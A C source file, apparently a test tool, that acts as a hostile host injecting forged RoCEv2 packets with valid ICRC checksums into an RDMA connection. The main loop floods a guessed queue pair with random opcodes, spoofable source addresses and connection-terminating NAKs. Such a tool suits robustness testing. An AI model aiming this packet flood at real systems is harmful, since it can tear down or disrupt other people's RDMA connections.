/*
 * attacker.c - a hostile host on the wire: RoCEv2 packets with a right ICRC from an address of its own, or, run where the real peer
 * lives, from the peer's address. It knows a queue pair's number (or guesses), but neither PSN nor rkey.
 *
 *   attacker SOURCE DESTINATION QPN SECONDS SEED
 *
 * Says how many packets it sent.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define PORT 4791
#define IP_UDP 28
#define ROOM 1200

static uint64_t state;

static uint32_t random32(void)
{
	state = state * UINT64_C(6364136223846793005) + UINT64_C(1442695040888963407);
	return (uint32_t)(state >> 33) * 2 + (uint32_t)(state >> 13 & 1);
}

static uint32_t crc32_of(const uint8_t *p, size_t n)
{
	uint32_t crc = 0xffffffff;
	for (; n; n--, p++) {
		crc ^= *p;
		for (int i = 0; i < 8; i++)
			crc = crc >> 1 ^ (crc & 1 ? 0xedb88320 : 0);
	}
	return ~crc;
}

static void put16(uint8_t *p, uint32_t v) { p[0] = (uint8_t)(v >> 8), p[1] = (uint8_t)v; }
static void put32(uint8_t *p, uint32_t v) { put16(p, v >> 16), put16(p + 2, v); }

/* The ICRC covers 8 bytes of ones, the IP and UDP headers with what changes on the way masked, and the packet (InfiniBand
 * Architecture Specification, annex A17). */
static uint32_t icrc(const struct sockaddr_in *from, const struct sockaddr_in *to, const uint8_t *packet, size_t len)
{
	uint8_t all[8 + IP_UDP + ROOM];
	uint8_t *ip = all + 8, *udp = ip + 20;
	memset(all, 0xff, 8 + IP_UDP);
	ip[0] = 0x45;
	put16(ip + 2, (uint32_t)(len + 4 + IP_UDP));
	put16(ip + 4, 0);
	put16(ip + 6, 0x4000);
	ip[9] = IPPROTO_UDP;
	memcpy(ip + 12, &from->sin_addr, 4);
	memcpy(ip + 16, &to->sin_addr, 4);
	memcpy(udp, &from->sin_port, 2);
	memcpy(udp + 2, &to->sin_port, 2);
	put16(udp + 4, (uint32_t)(len + 4 + 8));
	memcpy(udp + 8, packet, len);
	udp[8 + 4] = 0xff;
	return crc32_of(all, 8 + IP_UDP + len);
}

/* Requests, answers and nonsense. The PSN is any of 2^24, so hardly ever one that is expected. */
static size_t make(uint8_t *p, uint32_t qpn)
{
	static const uint8_t ops[] = { 0x00, 0x02, 0x04, 0x05, 0x06, 0x0a, 0x0b, 0x0c, 0x0f, 0x10, 0x11, 0x11, 0x12, 0x13, 0x14, 0x17, 0x24, 0x2a, 0x64, 0xa4, 0xc5 };
	size_t len = 12 + (random32() % 8 ? random32() % 60 : random32() % 1100);
	for (size_t i = 0; i < len + 4; i++)
		p[i] = (uint8_t)random32();
	p[0] = random32() % 16 ? ops[random32() % sizeof ops] : (uint8_t)random32();
	p[1] &= 0xf0;
	put16(p + 2, random32() % 16 ? 0xffff : random32());
	put32(p + 4, (random32() % 4 ? 0x2bu << 24 : random32() << 24) | ((random32() % 8 ? qpn : random32()) & 0xffffff));
	if (p[0] == 0x11 && random32() % 2)
		p[12] = (uint8_t)(0x60 | random32() % 5); /* a NAK that would end the connection */
	return len & ~(size_t)3;
}

int main(int argc, char **argv)
{
	if (argc != 6)
		return 2;
	struct sockaddr_in from = { .sin_family = AF_INET }, to = { .sin_family = AF_INET, .sin_port = htons(PORT) };
	uint32_t qpn = (uint32_t)strtoul(argv[3], NULL, 0);
	time_t until = time(NULL) + atoi(argv[4]);
	state = strtoull(argv[5], NULL, 0);
	socklen_t len = sizeof from;
	int fd = socket(AF_INET, SOCK_DGRAM, 0), discover = IP_PMTUDISC_DO;
	/* Unconnected with path MTU discovery: the identification is 0, as the ICRC above has it. */
	if (inet_pton(AF_INET, argv[1], &from.sin_addr) != 1 || inet_pton(AF_INET, argv[2], &to.sin_addr) != 1 || fd < 0 ||
	    setsockopt(fd, IPPROTO_IP, IP_MTU_DISCOVER, &discover, sizeof discover) || bind(fd, (struct sockaddr *)&from, sizeof from) ||
	    getsockname(fd, (struct sockaddr *)&from, &len)) {
		perror("attacker");
		return 3;
	}
	unsigned long sent = 0;
	while (time(NULL) < until) {
		for (int i = 0; i < 64; i++) {
			uint8_t packet[ROOM];
			size_t n = make(packet, qpn);
			uint32_t crc = htole32(icrc(&from, &to, packet, n));
			if (random32() % 32 == 0)
				crc ^= 1;
			memcpy(packet + n, &crc, 4);
			sent += sendto(fd, packet, random32() % 64 ? n + 4 : random32() % (n + 4), 0, (struct sockaddr *)&to, sizeof to) > 0;
		}
		usleep(500); /* a flood, but the transfer is to have a share of the processor */
	}
	printf("sent %lu\n", sent);
	return 0;
}
